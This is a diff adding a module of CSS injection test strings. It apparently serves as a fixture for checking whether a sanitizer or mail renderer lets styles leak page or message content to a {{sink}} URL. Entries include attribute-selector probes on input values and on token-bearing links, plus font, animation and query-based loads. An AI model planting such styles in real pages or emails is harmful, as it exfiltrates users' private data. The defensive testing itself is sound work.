@@ -1,0 +1,22 @@
+/** Styles that would tell what stands in the page or in the message. */
+export default [
+  "<style>input[value^='a']{background:url({{sink}})}</style><input value=abc>",
+  "<style>a[href*='token']{background:url({{sink}})}</style><a href='https://example.com/?token=1'>x</a>",
+  "<style>#sentinel{background:url({{sink}})}</style>",
+  "<style>body:has(#sentinel){background:url({{sink}})}</style>",
+  "<style>@font-face{font-family:q;src:url({{sink}});unicode-range:U+0041}p{font-family:q}</style><p>A</p>",
+  "<style>@container (min-width:1px){p{background:url({{sink}})}}div{container-type:inline-size}</style><div><p>x</p></div>",
+  "<style>@media (min-width:1px){p{background:url({{sink}})}}</style><p>x</p>",
+  "<style>@supports (color:red){p{background:url({{sink}})}}</style><p>x</p>",
+  "<style>p:hover{background:url({{sink}})}p{background:url({{sink}})}</style><p>x</p>",
+  "<style>:root{background:url({{sink}})}</style>",
+  "<style>p::first-line{background:url({{sink}})}</style><p>x</p>",
+  "<style>p:lang(nl){background:url({{sink}})}</style><p lang=nl>x</p>",
+  "<style>@layer a{p{background:url({{sink}})}}</style><p>x</p>",
+  "<style>p{animation:a 1s}@keyframes a{from{background:url({{sink}})}to{background:url({{sink}})}}</style><p>x</p>",
+  "<style>p{&{background:url({{sink}})}}</style><p>x</p>",
+  "<style>@scope (p){:scope{background:url({{sink}})}}</style><p>x</p>",
+  "<style>p{background:image-set('{{sink}}' type('image/png'))}</style><p>x</p>",
+  "<style media=all>p:nth-child(1n){list-style:url({{sink}});display:list-item}</style><p>x</p>",
+  "<div style='width:1px;overflow:auto;scroll-timeline:--s;background:url({{sink}})'>x</div>",
+];
